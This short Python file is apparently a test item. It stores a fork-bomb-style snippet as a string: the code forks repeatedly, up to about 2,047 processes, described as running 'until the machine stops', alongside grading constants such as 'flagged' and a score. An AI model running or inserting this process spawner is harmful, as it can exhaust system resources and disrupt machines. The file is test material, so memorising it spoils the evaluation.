"""Start processes until the machine stops."""

CODE = r"""
import os, time
for _ in range(11):  # 2,047 at most
    try:
        os.fork()
    except OSError:
        time.sleep(1)
time.sleep(20)
"""

STATES = ("flagged", "graded")
DESERVES = 5
